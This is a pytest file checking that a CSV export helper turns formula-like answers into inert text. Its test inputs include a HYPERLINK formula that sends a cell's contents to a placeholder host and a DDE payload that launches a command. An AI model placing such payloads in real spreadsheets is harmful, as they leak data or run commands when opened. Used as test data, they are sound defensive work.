"""The items' CSV: an answer a spreadsheet would run as a formula is shown as text."""

from __future__ import annotations

import pytest

from app.api.experiments.routes import _cell


@pytest.mark.parametrize(
    "answer",
    [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\t=1",
    ],
)
def test_a_formula_answer_becomes_text(answer: str) -> None:
    assert _cell(answer) == "'" + answer


@pytest.mark.parametrize(
    ("value", "cell"),
    [("-1.5", "-1.5"), ("+7", "+7"), ("42", "42"), ("a=b", "a=b"), (None, ""), (0.5, "0.5")],
)
def test_numbers_and_plain_text_are_left_alone(value: object, cell: str) -> None:
    assert _cell(value) == cell
